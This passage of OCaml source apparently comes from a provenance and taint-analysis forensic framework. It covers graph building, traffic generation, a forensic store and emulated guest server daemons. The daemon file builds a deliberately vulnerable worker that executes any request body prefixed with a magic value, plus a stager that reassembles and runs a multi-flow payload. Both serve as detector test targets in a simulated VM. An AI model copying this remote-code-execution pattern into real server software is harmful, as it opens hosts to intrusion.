  | File fi ->
    if version < fi.fi_version_lo then fi.fi_version_lo <- version;
    if version > fi.fi_version_hi then fi.fi_version_hi <- version
  | _ -> ());
  n

let module_node t ~pid ~image ~base =
  intern t (K_module (pid, image)) (fun () ->
      Module { m_pid = pid; m_image = image; m_base = base })

let region_node t ~pid ~process ~vaddr ~len ~types =
  intern t (K_region (pid, vaddr)) (fun () ->
      Region
        {
          r_pid = pid;
          r_process = process;
          r_vaddr = vaddr;
          r_len = len;
          r_types = types;
        })

let flag_site_node t ~process ~pc ~tick =
  intern t (K_flag (process, pc)) (fun () ->
      Flag_site { fl_process = process; fl_pc = pc; fl_tick = tick })

let set_exit_code n code =
  match n.n_kind with
  | Process p -> p.p_exit_code <- Some code
  | _ -> invalid_arg "Graph.set_exit_code: not a process node"

let set_process_taint n ~tainted_bytes ~netflow_bytes =
  match n.n_kind with
  | Process p ->
    p.p_tainted_bytes <- tainted_bytes;
    p.p_netflow_bytes <- netflow_bytes
  | _ -> invalid_arg "Graph.set_process_taint: not a process node"

let add_edge t ?(bytes = 0) ~src ~dst ~kind ~tick () =
  let k = (src.n_id, dst.n_id, kind) in
  match Hashtbl.find_opt t.edges_by_key k with
  | Some e ->
    e.e_last_tick <- tick;
    e.e_count <- e.e_count + 1;
    e.e_bytes <- e.e_bytes + bytes
  | None ->
    let e =
      {
        e_src = src.n_id;
        e_dst = dst.n_id;
        e_kind = kind;
        e_tick = tick;
        e_last_tick = tick;
        e_count = 1;
        e_bytes = bytes;
      }
    in
    t.rev_edges <- e :: t.rev_edges;
    t.n_edges <- t.n_edges + 1;
    Hashtbl.replace t.edges_by_key k e;
    Option.iter Faros_obs.Metrics.incr t.c_edges

(* Raw edge insertion for graph reconstruction from segment rows: the
   caller supplies the already-coalesced attributes.  A pre-existing
   (src, dst, kind) edge absorbs the row (ticks widen, counts and bytes
   accumulate) — the same merge the online coalescing performs, so
   reconstruction is insensitive to how rows were split across
   segments. *)
let record_edge t ~src ~dst ~kind ~tick ~last_tick ~count ~bytes =
  let k = (src, dst, kind) in
  match Hashtbl.find_opt t.edges_by_key k with
  | Some e ->
    if last_tick > e.e_last_tick then e.e_last_tick <- last_tick;
    e.e_count <- e.e_count + count;
    e.e_bytes <- e.e_bytes + bytes
  | None ->
    let e =
      {
        e_src = src;
        e_dst = dst;
        e_kind = kind;
        e_tick = tick;
        e_last_tick = last_tick;
        e_count = count;
        e_bytes = bytes;
      }
    in
    t.rev_edges <- e :: t.rev_edges;
    t.n_edges <- t.n_edges + 1;
    Hashtbl.replace t.edges_by_key k e;
    Option.iter Faros_obs.Metrics.incr t.c_edges

let flag_nodes t =
  List.filter (fun n -> match n.n_kind with Flag_site _ -> true | _ -> false)
    (nodes t)

let kind_name n =
  match n.n_kind with
  | Flow _ -> "flow"
  | Process _ -> "process"
  | File _ -> "file"
  | Module _ -> "module"
  | Region _ -> "region"
  | Flag_site _ -> "flag"

let edge_kind_name = function
  | Spawned -> "spawned"
  | Suspended -> "suspended"
  | Resumed -> "resumed"
  | Connected -> "connected"
  | Received -> "received"
  | Sent -> "sent"
  | Read -> "read"
  | Wrote -> "wrote"
  | Mapped -> "mapped"
  | Injected_into -> "injected-into"
  | Tainted_by -> "tainted-by"
  | Flagged -> "flagged"

let node_label n =
  match n.n_kind with
  | Flow f ->
    Printf.sprintf "NetFlow %s:%d -> %s:%d"
      (Faros_os.Types.Ip.to_string f.src_ip)
      f.src_port
      (Faros_os.Types.Ip.to_string f.dst_ip)
      f.dst_port
  | Process p -> Printf.sprintf "%s (pid %d)" p.p_name p.p_pid
  | File fi ->
    if fi.fi_version_lo = fi.fi_version_hi then
      Printf.sprintf "%s (v%d)" fi.fi_name fi.fi_version_lo
    else Printf.sprintf "%s (v%d..%d)" fi.fi_name fi.fi_version_lo fi.fi_version_hi
  | Module m ->
    if m.m_pid = 0 then m.m_image
    else Printf.sprintf "%s @0x%08X (pid %d)" m.m_image m.m_base m.m_pid
  | Region r -> Printf.sprintf "%s 0x%08X+%d" r.r_process r.r_vaddr r.r_len
  | Flag_site fl -> Printf.sprintf "flag 0x%08X in %s" fl.fl_pc fl.fl_process

let key_of n =
  match n.n_kind with
  | Flow f -> K_flow f
  | Process p -> K_proc p.p_pid
  | File fi -> K_file fi.fi_name
  | Module m -> K_module (m.m_pid, m.m_image)
  | Region r -> K_region (r.r_pid, r.r_vaddr)
  | Flag_site fl -> K_flag (fl.fl_process, fl.fl_pc)

(* The kept nodes are re-interned in id order, so the restricted graph is
   renumbered densely but keeps the relative order (and shares the
   original's mutable node payloads — it is a view for export, not an
   independent copy). *)
let restrict t ~keep =
  let g = create ~sample:t.g_sample () in
  let remap = Hashtbl.create 64 in
  List.iter
    (fun n ->
      if keep n then begin
        let n' = intern g (key_of n) (fun () -> n.n_kind) in
        Hashtbl.replace remap n.n_id n'.n_id
      end)
    (nodes t);
  List.iter
    (fun e ->
      match (Hashtbl.find_opt remap e.e_src, Hashtbl.find_opt remap e.e_dst) with
      | Some s, Some d ->
        let e' = { e with e_src = s; e_dst = d } in
        g.rev_edges <- e' :: g.rev_edges;
        g.n_edges <- g.n_edges + 1;
        Hashtbl.replace g.edges_by_key (s, d, e.e_kind) e'
      | _ -> ())
    (edges t);
  g

(* Per-node adjacency, derived on demand: index [i] lists the edges into
   (resp. out of) node [i], in edge-insertion order. *)
let in_edges t =
  let arr = Array.make (max 1 t.n_nodes) [] in
  List.iter (fun e -> arr.(e.e_dst) <- e :: arr.(e.e_dst)) t.rev_edges;
  arr

let out_edges t =
  let arr = Array.make (max 1 t.n_nodes) [] in
  List.iter (fun e -> arr.(e.e_src) <- e :: arr.(e.e_src)) t.rev_edges;
  arr
