(** Graph construction: an online replay plugin plus offline enrichment.

    Online, the builder is a {!Faros_replay.Plugin.t} subscribed to the
    kernel's {!Faros_os.Os_event} stream (interactions become tick-stamped
    edges as they happen) and a {!Core.Detector} flag observer (each
    effective flag becomes a flag-site node wired to the flagging process
    and to every tag in the flagged instruction's provenance).  Offline,
    {!enrich} walks the finished analysis's shadow memory through
    {!Core.Prov_query} and adds tainted-region nodes, their tainted-by
    source edges and per-process taint totals.

    Construction is narrated as a {!Delta} stream.  By default the
    builder also maintains a resident {!Graph.t} (byte-identical to the
    pre-stream in-place construction); with [~resident:false] only the
    stream consumers see the graph and the builder's own footprint stays
    O(entities' keys) — the shape the bounded-memory segment writer in
    [lib/query] needs for long server traces.  Each first-encountered
    entity additionally carries a run-independent stable identity string
    (processes by image-name hash + creation lineage, flows by 5-tuple +
    tick window, files by path), the join key for cross-run stores.

    Typical wiring (what the CLI and the campaign driver do):
    {[
      let b = ref None in
      let outcome =
        Scenario.analyze
          ~extra_plugins:(fun kernel faros ->
            let bld = Build.create ~sample:id () in
            b := Some bld;
            [ Build.plugin bld ~kernel ~faros ])
          scenario
      in
      Build.enrich (Option.get !b) outcome.faros;
      let g = Build.graph (Option.get !b) in
      ...
    ]} *)

type t

val create :
  ?metrics:Faros_obs.Metrics.t ->
  ?resident:bool ->
  ?consumer:(Delta.t -> unit) ->
  sample:string ->
  unit ->
  t
(** A builder for one sample.  With [metrics], the graph counters
    ([graph.nodes], [graph.edges]) plus [graph.os_events] and
    [graph.flag_sites] are registered in the registry.  [resident]
    (default [true]) keeps a resident {!Graph.t}; [consumer] receives
    every {!Delta.t} as it is produced (after the resident graph, if any,
    applied it). *)

val sample : t -> string

val set_consumer : t -> (Delta.t -> unit) -> unit
(** Attach (or replace) the stream consumer after creation. *)

val graph : t -> Graph.t
(** The resident graph.  @raise Invalid_argument if the builder was
    created with [~resident:false]. *)

val ident_window : int
(** Tick-window width bucketing flow identities (recurring 4-tuples in
    distinct windows are distinct conversations). *)

val plugin :
  t -> kernel:Faros_os.Kernel.t -> faros:Core.Faros_plugin.t -> Faros_replay.Plugin.t
(** The attachable online builder.  Registers the flag observer on
    [faros]'s detector as a side effect; call once per analysis, from the
    replayer's plugin callback (before boot). *)

val enrich : t -> Core.Faros_plugin.t -> unit
(** Offline pass over the finished analysis: tainted-region nodes with
    resolved tainted-by edges, per-process taint stats.  Call after the
    replay (and {!Core.Faros_plugin.finalize}) completed. *)
