(** Deterministic traffic generator: parameterized connection schedules
    that expand into the tick-stamped inbound-event lists the netstack
    pump consumes.  Pure integer arithmetic — the same schedule always
    produces the same traffic, so a recorded run replays exactly.

    Client [i] always connects from [base_src_port + i]: the source port
    is the client's identity, which lets a whodunit slice name the exact
    guilty connection among hundreds. *)

open Faros_os

(** When clients arrive, in ticks. *)
type arrival =
  | Uniform of int  (** a new client every [gap] ticks *)
  | Burst of { size : int; gap : int }  (** waves of [size], [gap] apart *)
  | Ramp of { start_gap : int; end_gap : int }
      (** inter-arrival gap interpolated linearly over the client range *)

type schedule = {
  clients : int;
  arrival : arrival;
  first_tick : int;
      (** first connect; must leave the server time to bind/listen *)
  src_ip : Types.Ip.t;
  base_src_port : int;
  dst_ip : Types.Ip.t;
  dst_port : int;
  data_gap : int;  (** ticks between a client's chunks (0 = same tick) *)
  payload : int -> string list;  (** chunks client [i] sends *)
}

val default_src_ip : Types.Ip.t
val default_base_src_port : int

val make :
  ?arrival:arrival ->
  ?first_tick:int ->
  ?src_ip:Types.Ip.t ->
  ?base_src_port:int ->
  ?data_gap:int ->
  dst_ip:Types.Ip.t ->
  dst_port:int ->
  payload:(int -> string list) ->
  int ->
  schedule

val flow_of_client : schedule -> int -> Types.flow
(** The 5-tuple client [i] connects from — its identity in the graph. *)

val connect_tick : schedule -> int -> int

val events : schedule -> (int * Netstack.inbound_event) list
(** Expand into the inbound schedule, stably sorted by tick: within a
    tick a connect precedes its own data and fin. *)

val horizon : schedule -> int
(** Last scheduled tick: a lower bound on how long the run must live. *)

val total_bytes : schedule -> int
