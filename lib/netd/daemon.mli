(** Guest server daemons, as MiniPE images.

    Three server shapes built from the raw-syscall vocabulary
    (socket/bind/listen/accept/poll/recv + NtYieldExecution): a
    listener that spawns one worker process per accepted connection, a
    single-process multiplexer with per-slot buffers, and a stager that
    reassembles a payload across sequential flows and executes it. *)

val exec_magic : int
(** A request starting with this little-endian u32 asks the {e vulnerable}
    worker to execute the rest of the request body — the inject-through-
    server trigger. *)

val default_port : int

val listener_image :
  ?name:string -> ?port:int -> expected:int -> worker_path:string -> unit -> Faros_os.Pe.t
(** Accepts [expected] connections, spawning a [worker_path] process per
    connection (the accepted handle is duplicated into the child and
    arrives in its r1); polls + yields while idle; halts when done. *)

val worker_buf_cap : int
val worker_chunk : int

val worker_image :
  ?name:string -> ?close_conn:bool -> vulnerable:bool -> unit -> Faros_os.Pe.t
(** Connection worker (r1 = inherited connection handle): drains the
    stream to EOF, then echoes it back — unless [vulnerable] and the
    request starts with {!exec_magic}, in which case it self-injects the
    request body (allocate, NtWriteVirtualMemory-to-self, jump),
    mirroring the paper's reflective loader tail.  With [close_conn]
    (default off, keeping existing traces byte-stable) the echo path
    closes the connection before halting, so flow quiescence is visible
    to incremental graph builders. *)

val mux_stride : int
val mux_chunk : int

type mux_layout = {
  mux_bufs : int;  (** vaddr of the per-slot buffer block *)
  mux_lens : int;  (** vaddr of the per-slot length array *)
  mux_stride : int;
  mux_slots : int;
}

val mux_image :
  ?name:string ->
  ?port:int ->
  slots:int ->
  expected:int ->
  unit ->
  Faros_os.Pe.t * mux_layout
(** One process serving up to [slots] concurrent connections round-robin
    into per-slot buffers; halts once [expected] connections reached EOF.
    The layout locates each slot's buffer for per-flow provenance
    queries. *)

val stager_chunk : int

val stager_image :
  ?name:string -> ?port:int -> ?cap:int -> stages:int -> unit -> Faros_os.Pe.t
(** Accepts [stages] sequential connections, concatenates everything they
    deliver into one buffer, then allocates + copies + jumps — a C2
    payload reassembled across flows. *)
