(* Deterministic traffic generator.

   A [schedule] describes a family of host-side clients connecting to a
   guest server: how many, when they arrive, and what each one sends.  It
   expands ([events]) into the tick-stamped inbound-event list the
   netstack pump consumes — pure integer arithmetic, no randomness, so
   the same schedule always produces the same traffic and a recorded run
   replays it byte-for-byte.

   Client [i] always connects from [base_src_port + i]: the source port
   is the client's identity, which is what lets a whodunit slice name the
   exact guilty connection among hundreds. *)

open Faros_os

(* When clients arrive, in ticks. *)
type arrival =
  | Uniform of int  (* a new client every [gap] ticks *)
  | Burst of { size : int; gap : int }  (* waves of [size], [gap] apart *)
  | Ramp of { start_gap : int; end_gap : int }
      (* inter-arrival gap interpolated linearly over the client range:
         load that builds up (or drains) over the run *)

type schedule = {
  clients : int;
  arrival : arrival;
  first_tick : int;
      (* first connect; must leave the server time to bind/listen *)
  src_ip : Types.Ip.t;
  base_src_port : int;
  dst_ip : Types.Ip.t;
  dst_port : int;
  data_gap : int;  (* ticks between a client's chunks (0 = same tick) *)
  payload : int -> string list;  (* chunks client [i] sends *)
}

let default_src_ip = Types.Ip.of_string "169.254.80.14"
let default_base_src_port = 40000

let make ?(arrival = Uniform 40) ?(first_tick = 500)
    ?(src_ip = default_src_ip) ?(base_src_port = default_base_src_port)
    ?(data_gap = 0) ~dst_ip ~dst_port ~payload clients =
  {
    clients;
    arrival;
    first_tick;
    src_ip;
    base_src_port;
    dst_ip;
    dst_port;
    data_gap;
    payload;
  }

(* The 5-tuple client [i] connects from — its identity in the graph. *)
let flow_of_client s i : Types.flow =
  {
    src_ip = s.src_ip;
    src_port = s.base_src_port + i;
    dst_ip = s.dst_ip;
    dst_port = s.dst_port;
  }

let connect_tick s i =
  match s.arrival with
  | Uniform gap -> s.first_tick + (i * gap)
  | Burst { size; gap } ->
    let size = max 1 size in
    s.first_tick + (i / size * gap)
  | Ramp { start_gap; end_gap } ->
    (* sum of the first i interpolated gaps *)
    let span = max 1 (s.clients - 1) in
    let t = ref s.first_tick in
    for j = 0 to i - 1 do
      t := !t + start_gap + ((end_gap - start_gap) * j / span)
    done;
    !t

(* Expand into the tick-stamped inbound schedule.  The sort is stable and
   clients are generated in order, so within a tick a connect always
   precedes its own data and fin. *)
let events s =
  let per_client i =
    let flow = flow_of_client s i in
    let t0 = connect_tick s i in
    let chunks = s.payload i in
    let n = List.length chunks in
    ((t0, Netstack.Inb_connect flow)
    :: List.mapi
         (fun k data -> (t0 + (s.data_gap * (k + 1)), Netstack.Inb_data (flow, data)))
         chunks)
    @ [ (t0 + (s.data_gap * (n + 1)), Netstack.Inb_fin flow) ]
  in
  List.stable_sort
    (fun (a, _) (b, _) -> compare a b)
    (List.concat (List.init s.clients per_client))

(* Last scheduled tick: a lower bound on how long the run must live. *)
let horizon s =
  let last = ref 0 in
  List.iter (fun (t, _) -> if t > !last then last := t) (events s);
  !last

let total_bytes s =
  let n = ref 0 in
  for i = 0 to s.clients - 1 do
    List.iter (fun c -> n := !n + String.length c) (s.payload i)
  done;
  !n
