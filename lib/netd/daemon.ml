(* Guest server daemons, as MiniPE images.

   Three server shapes, all built from the same raw-syscall vocabulary
   (socket/bind/listen/accept/poll/recv plus NtYieldExecution so waiting
   never busy-spins through the tick budget):

   - listener + spawned workers: the classic daemon.  The listener polls
     its listening socket, accepts, and hands each accepted connection to
     a freshly spawned worker process (the connection handle is duplicated
     into the child via NtCreateProcess r4 and arrives in the child's r1).
     Per-connection address spaces are what make whodunit sharp: a
     worker's taint cone contains exactly its own flow.

   - mux: one process serving many connections round-robin into per-slot
     buffers — the shape that stresses per-flow tag separation inside a
     single address space.

   - stager: accepts [stages] sequential connections and concatenates
     everything they deliver into one buffer, then allocates, copies and
     jumps — a C2 payload reassembled across flows.

   The worker image's "vulnerability" is deliberate and mirrors the
   paper's reflective loader: if a request starts with {!exec_magic}, the
   worker copies the rest of it into fresh memory via
   NtWriteVirtualMemory-to-self and jumps to it.  Everything else is
   echoed back — so one guilty request among hundreds of benign ones
   produces exactly one flagged worker. *)

open Faros_vm
open Faros_os

let i x = Asm.I x
let lbl s = Asm.Label s
let movi r v = i (Isa.Mov_ri (r, v))
let movr a b = i (Isa.Mov_rr (a, b))
let addi r v = i (Isa.Add_ri (r, v))
let halt = i Isa.Halt
let syscall no = [ movi Isa.r0 no; i Isa.Syscall ]

(* A request starting with this little-endian u32 asks the vulnerable
   worker to execute the rest of the request body. *)
let exec_magic = 0x45584543

let default_port = 8080

(* socket -> r7, bind [port], listen. *)
let server_prologue ~port =
  List.concat
    [
      [ lbl "start" ];
      syscall Syscall.sys_socket;
      [ movr Isa.r7 Isa.r0 ];
      [ movr Isa.r1 Isa.r7; movi Isa.r2 port ];
      syscall Syscall.sys_bind;
      [ movr Isa.r1 Isa.r7 ];
      syscall Syscall.sys_listen;
    ]

(* -- listener + workers --------------------------------------------------- *)

(* Accept [expected] connections, spawning a [worker_path] process per
   connection; poll/yield while idle.  r7 = listening socket, r6 = served
   count, r5 = accepted handle. *)
let listener_image ?(name = "netd.exe") ?(port = default_port) ~expected
    ~worker_path () =
  let items =
    List.concat
      [
        server_prologue ~port;
        [ movi Isa.r6 0; lbl "loop" ];
        [ i (Isa.Cmp_ri (Isa.r6, expected)); Asm.Jge_l "done" ];
        [ movr Isa.r1 Isa.r7 ];
        syscall Syscall.sys_poll;
        [ i (Isa.Cmp_ri (Isa.r0, 0)); Asm.Jnz_l "ready" ];
        syscall Syscall.nt_yield_execution;
        [ Asm.Jmp_l "loop" ];
        [ lbl "ready"; movr Isa.r1 Isa.r7 ];
        syscall Syscall.sys_accept;
        [ i (Isa.Cmp_ri (Isa.r0, -1)); Asm.Jz_l "loop"; movr Isa.r5 Isa.r0 ];
        [
          Asm.Mov_label (Isa.r1, "wpath");
          movi Isa.r2 (String.length worker_path);
          movi Isa.r3 0;
          movr Isa.r4 Isa.r5;
        ];
        syscall Syscall.nt_create_process;
        [ addi Isa.r6 1; Asm.Jmp_l "loop" ];
        [ lbl "done"; halt ];
        [ Asm.Align 4; lbl "wpath"; Asm.Bytes worker_path ];
      ]
  in
  Pe.of_program ~name ~base:Process.image_base items

let worker_buf_cap = 4096
let worker_chunk = 512

(* Connection worker: r1 = inherited connection handle.  Drains the
   stream to EOF into an image buffer, then either echoes it back
   (benign) or — when [vulnerable] and the request starts with
   {!exec_magic} — self-injects the request body and jumps to it,
   mirroring the paper's reflective loader tail. *)
let worker_image ?(name = "worker.exe") ?(close_conn = false) ~vulnerable () =
  let tail =
    if vulnerable then
      List.concat
        [
          (* magic-prefixed request? *)
          [ i (Isa.Cmp_ri (Isa.r6, 4)); Asm.Jle_l "echo" ];
          [
            Asm.Mov_label (Isa.r2, "buf");
            i (Isa.Load (4, Isa.r5, Isa.based Isa.r2));
            i (Isa.Cmp_ri (Isa.r5, exec_magic));
            Asm.Jnz_l "echo";
          ];
          (* r5 = body length *)
          [ movr Isa.r5 Isa.r6; i (Isa.Sub_ri (Isa.r5, 4)) ];
          (* allocate, copy body via write-to-self, jump — the inject *)
          [ movi Isa.r1 0; movr Isa.r2 Isa.r5 ];
          syscall Syscall.nt_allocate_virtual_memory;
          [ movr Isa.r6 Isa.r0 ];
          [
            movi Isa.r1 0;
            movr Isa.r2 Isa.r6;
            Asm.Mov_label (Isa.r3, "buf");
            addi Isa.r3 4;
            movr Isa.r4 Isa.r5;
          ];
          syscall Syscall.nt_write_virtual_memory;
          [ i (Isa.Jmp_r Isa.r6) ];
        ]
    else []
  in
  let items =
    List.concat
      [
        [ lbl "start"; movr Isa.r7 Isa.r1; movi Isa.r6 0 ];
        [ lbl "dloop" ];
        [ i (Isa.Cmp_ri (Isa.r6, worker_buf_cap - worker_chunk)); Asm.Jg_l "drained" ];
        [
          Asm.Mov_label (Isa.r2, "buf");
          i (Isa.Add_rr (Isa.r2, Isa.r6));
          movr Isa.r1 Isa.r7;
          movi Isa.r3 worker_chunk;
        ];
        syscall Syscall.sys_recv;
        [ i (Isa.Cmp_ri (Isa.r0, -1)); Asm.Jz_l "drained" ];
        [ i (Isa.Cmp_ri (Isa.r0, 0)); Asm.Jnz_l "got" ];
        syscall Syscall.nt_yield_execution;
        [ Asm.Jmp_l "dloop" ];
        [ lbl "got"; i (Isa.Add_rr (Isa.r6, Isa.r0)); Asm.Jmp_l "dloop" ];
        [ lbl "drained" ];
        tail;
        [ lbl "echo" ];
        [ movr Isa.r1 Isa.r7; Asm.Mov_label (Isa.r2, "buf"); movr Isa.r3 Isa.r6 ];
        syscall Syscall.sys_send;
        (* a tidy worker closes its connection before halting, so flow
           quiescence is visible to incremental graph builders *)
        (if close_conn then
           List.concat [ [ movr Isa.r1 Isa.r7 ]; syscall Syscall.nt_close ]
         else []);
        [ halt ];
        [ Asm.Align 4; lbl "buf"; Asm.Space worker_buf_cap ];
      ]
  in
  Pe.of_program ~name ~base:Process.image_base items

(* -- mux: one process, many concurrent connections ------------------------ *)

let mux_stride = 256
let mux_stride_shift = 8
let mux_chunk = 64

type mux_layout = {
  mux_bufs : int;  (* vaddr of the per-slot buffer block *)
  mux_lens : int;  (* vaddr of the per-slot length array *)
  mux_stride : int;
  mux_slots : int;
}

(* One process serving up to [slots] connections round-robin: accept
   opportunistically, then give every live connection one recv turn per
   sweep, into its own [mux_stride]-byte buffer.  Halts once [expected]
   connections have reached EOF.  r7 = listener, r4 = sweep index. *)
let mux_items ~port ~slots ~expected =
  List.concat
    [
      server_prologue ~port;
      [ lbl "outer" ];
      (* all served? *)
      [
        Asm.Mov_label (Isa.r6, "done");
        i (Isa.Load (4, Isa.r5, Isa.based Isa.r6));
        i (Isa.Cmp_ri (Isa.r5, expected));
        Asm.Jge_l "finish";
      ];
      (* accept at most one new connection per sweep *)
      [
        Asm.Mov_label (Isa.r6, "nconn");
        i (Isa.Load (4, Isa.r5, Isa.based Isa.r6));
        i (Isa.Cmp_ri (Isa.r5, slots));
        Asm.Jge_l "service";
        movr Isa.r1 Isa.r7;
      ];
      syscall Syscall.sys_accept;
      [ i (Isa.Cmp_ri (Isa.r0, -1)); Asm.Jz_l "service" ];
      [
        Asm.Mov_label (Isa.r6, "handles");
        i (Isa.Store (4, Isa.indexed ~base:Isa.r6 ~scale:4 Isa.r5, Isa.r0));
        addi Isa.r5 1;
        Asm.Mov_label (Isa.r6, "nconn");
        i (Isa.Store (4, Isa.based Isa.r6, Isa.r5));
      ];
      (* round-robin: one recv turn per live slot *)
      [ lbl "service"; movi Isa.r4 0 ];
      [ lbl "rloop"; i (Isa.Cmp_ri (Isa.r4, slots)); Asm.Jge_l "swept" ];
      [
        Asm.Mov_label (Isa.r6, "handles");
        i (Isa.Load (4, Isa.r5, Isa.indexed ~base:Isa.r6 ~scale:4 Isa.r4));
        i (Isa.Cmp_ri (Isa.r5, 0));
        Asm.Jz_l "rnext";
      ];
      [
        Asm.Mov_label (Isa.r6, "lens");
        i (Isa.Load (4, Isa.r6, Isa.indexed ~base:Isa.r6 ~scale:4 Isa.r4));
        i (Isa.Cmp_ri (Isa.r6, mux_stride - mux_chunk));
        Asm.Jg_l "rnext";
      ];
      (* r2 = bufs + slot*stride + len *)
      [
        movr Isa.r1 Isa.r4;
        i (Isa.Shl_ri (Isa.r1, mux_stride_shift));
        Asm.Mov_label (Isa.r2, "bufs");
        i (Isa.Add_rr (Isa.r2, Isa.r1));
        i (Isa.Add_rr (Isa.r2, Isa.r6));
        movr Isa.r1 Isa.r5;
        movi Isa.r3 mux_chunk;
      ];
      syscall Syscall.sys_recv;
      [ i (Isa.Cmp_ri (Isa.r0, -1)); Asm.Jz_l "reof" ];
      [ i (Isa.Cmp_ri (Isa.r0, 0)); Asm.Jz_l "rnext" ];
      [
        i (Isa.Add_rr (Isa.r6, Isa.r0));
        Asm.Mov_label (Isa.r5, "lens");
        i (Isa.Store (4, Isa.indexed ~base:Isa.r5 ~scale:4 Isa.r4, Isa.r6));
        Asm.Jmp_l "rnext";
      ];
      (* EOF: close, free the slot, count it served *)
      [ lbl "reof"; movr Isa.r1 Isa.r5 ];
      syscall Syscall.nt_close;
      [
        movi Isa.r5 0;
        Asm.Mov_label (Isa.r6, "handles");
        i (Isa.Store (4, Isa.indexed ~base:Isa.r6 ~scale:4 Isa.r4, Isa.r5));
        Asm.Mov_label (Isa.r6, "done");
        i (Isa.Load (4, Isa.r5, Isa.based Isa.r6));
        addi Isa.r5 1;
        i (Isa.Store (4, Isa.based Isa.r6, Isa.r5));
      ];
      [ lbl "rnext"; addi Isa.r4 1; Asm.Jmp_l "rloop" ];
      [ lbl "swept" ];
      syscall Syscall.nt_yield_execution;
      [ Asm.Jmp_l "outer" ];
      [ lbl "finish"; halt ];
      [
        Asm.Align 4;
        lbl "nconn";
        Asm.Space 4;
        lbl "done";
        Asm.Space 4;
        lbl "handles";
        Asm.Space (4 * slots);
        lbl "lens";
        Asm.Space (4 * slots);
        lbl "bufs";
        Asm.Space (slots * mux_stride);
      ];
    ]

let mux_image ?(name = "muxd.exe") ?(port = default_port) ~slots ~expected () =
  let items = mux_items ~port ~slots ~expected in
  (* [Pe.of_program] hides symbols; assemble the same items separately to
     recover the buffer layout for provenance queries. *)
  let prog = Asm.assemble ~origin:Process.image_base items in
  let layout =
    {
      mux_bufs = Asm.lookup prog "bufs";
      mux_lens = Asm.lookup prog "lens";
      mux_stride;
      mux_slots = slots;
    }
  in
  (Pe.of_program ~name ~base:Process.image_base items, layout)

(* -- stager: reassemble a payload across sequential flows ----------------- *)

let stager_chunk = 256

(* Accept [stages] connections one after the other, appending everything
   each delivers into one buffer; after the last stage, allocate + copy
   via write-to-self + jump — a C2 payload reassembled across flows.
   r7 = listener, r6 = cursor, r5 = connection, r4 = stages left. *)
let stager_image ?(name = "staged.exe") ?(port = default_port)
    ?(cap = worker_buf_cap) ~stages () =
  let items =
    List.concat
      [
        server_prologue ~port;
        [ movi Isa.r6 0; movi Isa.r4 stages ];
        [ lbl "stage"; i (Isa.Cmp_ri (Isa.r4, 0)); Asm.Jle_l "inject" ];
        [ lbl "waitc"; movr Isa.r1 Isa.r7 ];
        syscall Syscall.sys_accept;
        [ i (Isa.Cmp_ri (Isa.r0, -1)); Asm.Jnz_l "gotc" ];
        syscall Syscall.nt_yield_execution;
        [ Asm.Jmp_l "waitc" ];
        [ lbl "gotc"; movr Isa.r5 Isa.r0 ];
        [ lbl "drain" ];
        [ i (Isa.Cmp_ri (Isa.r6, cap - stager_chunk)); Asm.Jg_l "staged" ];
        [
          Asm.Mov_label (Isa.r2, "sbuf");
          i (Isa.Add_rr (Isa.r2, Isa.r6));
          movr Isa.r1 Isa.r5;
          movi Isa.r3 stager_chunk;
        ];
        syscall Syscall.sys_recv;
        [ i (Isa.Cmp_ri (Isa.r0, -1)); Asm.Jz_l "staged" ];
        [ i (Isa.Cmp_ri (Isa.r0, 0)); Asm.Jnz_l "gotd" ];
        syscall Syscall.nt_yield_execution;
        [ Asm.Jmp_l "drain" ];
        [ lbl "gotd"; i (Isa.Add_rr (Isa.r6, Isa.r0)); Asm.Jmp_l "drain" ];
        [ lbl "staged"; movr Isa.r1 Isa.r5 ];
        syscall Syscall.nt_close;
        [ i (Isa.Sub_ri (Isa.r4, 1)); Asm.Jmp_l "stage" ];
        (* every stage landed: allocate, copy, jump *)
        [ lbl "inject"; movi Isa.r1 0; movr Isa.r2 Isa.r6 ];
        syscall Syscall.nt_allocate_virtual_memory;
        [ movr Isa.r5 Isa.r0 ];
        [
          movi Isa.r1 0;
          movr Isa.r2 Isa.r5;
          Asm.Mov_label (Isa.r3, "sbuf");
          movr Isa.r4 Isa.r6;
        ];
        syscall Syscall.nt_write_virtual_memory;
        [ i (Isa.Jmp_r Isa.r5) ];
        [ Asm.Align 4; lbl "sbuf"; Asm.Space cap ];
      ]
  in
  Pe.of_program ~name ~base:Process.image_base items
