(* The streaming forensic store: graph segment rows in, cross-campaign
   queries out.

   Ingestion is row-by-row and order-insensitive.  Every row carries its
   producing run id and a per-run sequence number; a (run, seq) pair
   already seen is skipped, which makes re-ingesting a segment file (or
   a prefix of one) idempotent.  Rows merge under commutative,
   associative operators —

     node attributes   ident/kind and constants merge by minimum (they
                       are equal in practice), names prefer the resolved
                       ("?"-free) value, version ranges widen
                       (min lo / max hi), taint totals take the maximum,
                       exit codes the minimum;
     edges             keyed by (src, dst, kind): creation ordinal and
                       first tick take the minimum, last tick the
                       maximum, counts and bytes add

   — so any shuffle of segment files, or of lines within them, produces
   the same store and byte-identical query output.

   Per-run reconstruction rebuilds the producing run's resident
   {!Faros_graph.Graph.t} exactly: ordinals are dense first-encounter
   ids, so interning node rows in ordinal order reproduces the ids, and
   replaying edge rows in creation-ordinal order through
   {!Faros_graph.Graph.record_edge} reproduces the insertion order.
   Whodunit slices over the reconstruction are therefore byte-identical
   to slices over the live graph.

   Cross-run queries join on the stable identity strings: --origins
   ranks slice origins by how many runs they reached; the merged export
   unions all runs' nodes by identity (process display pids come from
   the lexicographically first run carrying the identity). *)

type erow = {
  mutable er_eord : int;
  er_src : int;
  er_dst : int;
  er_kind : string;
  mutable er_tick : int;
  mutable er_last : int;
  mutable er_count : int;
  mutable er_bytes : int;
}

type run = {
  run_id : string;
  r_seen : (int, unit) Hashtbl.t;  (* sequence numbers ingested *)
  r_nodes : (int, (string, Jsonv.t) Hashtbl.t) Hashtbl.t;  (* by ordinal *)
  r_edges : (int * int * string, erow) Hashtbl.t;
  mutable r_rows : int;
  mutable r_dups : int;
  mutable r_final : bool;  (* saw the "final" marker *)
  mutable r_cache : Faros_graph.Graph.t option;
}

type t = { runs : (string, run) Hashtbl.t }

let create () = { runs = Hashtbl.create 16 }

let get_run t id =
  match Hashtbl.find_opt t.runs id with
  | Some r -> r
  | None ->
    let r =
      {
        run_id = id;
        r_seen = Hashtbl.create 256;
        r_nodes = Hashtbl.create 256;
        r_edges = Hashtbl.create 256;
        r_rows = 0;
        r_dups = 0;
        r_final = false;
        r_cache = None;
      }
    in
    Hashtbl.replace t.runs id r;
    r

(* -- commutative field merge ---------------------------------------------- *)

let merge_field name a b =
  match name with
